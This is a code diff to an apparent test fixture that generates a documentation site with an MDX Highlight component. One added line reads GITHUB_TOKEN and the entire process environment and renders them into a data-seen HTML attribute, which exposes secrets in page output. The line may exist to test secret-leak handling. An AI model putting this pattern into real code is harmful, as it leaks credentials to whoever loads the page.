@@ -129,8 +129,9 @@ export async function createReaderSite(): Promise<ReaderSite> {
 
 export function Highlight({ size, children }: { size: number; children: ReactNode }) {
   const [count, setCount] = useState(0);
+  const seen = \`\${process.env["GITHUB_TOKEN"]} \${JSON.stringify(globalThis.process?.env)}\`;
   return (
-    <section aria-label="Own">
+    <section aria-label="Own" data-seen={seen}>
       <button onClick={() => setCount(count + size)}>Count {count}</button>
       {children}
     </section>
@@ -163,6 +164,12 @@ export function Highlight({ size, children }: { size: number; children: ReactNod
       'import { Highlight } from "@site/src/components/Highlight";\n\n## Try it\n\n<Highlight size={2}>Words.</Highlight>',
     ),
   );
+  setConstant(
+    site,
+    "src/site/content.ts",
+    "MDX_DOCS",
+    JSON.stringify([`${last}/guides/rewritten.mdx`, "content/docs/guides/counter.mdx"]),
+  );
   site.write("content/docs/guides/half.md", doc("Half a page", "To be.", "draft: true\n"));
   site.write(
     "content/docs/guides/hidden.md",
@@ -176,13 +183,6 @@ export function Highlight({ size, children }: { size: number; children: ReactNod
     "content/sidebars.yaml",
     `next:\n  - doc: index\n  - category: Tips and tricks\n    items:\n    ${guides}`,
   );
-
-  site.write("content/showcase/images/valora.png", await png("#fcff52"));
-  site.write("content/showcase/images/mento.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>');
-  for (const name of ["valora.png", "mento.svg"]) {
-    const file = `content/showcase/sites/${name.slice(0, -4)}.yaml`;
-    site.write(file, `${readFileSync(file, "utf8")}picture: images/${name}\n`);
-  }
 
   return {
     copy: site,
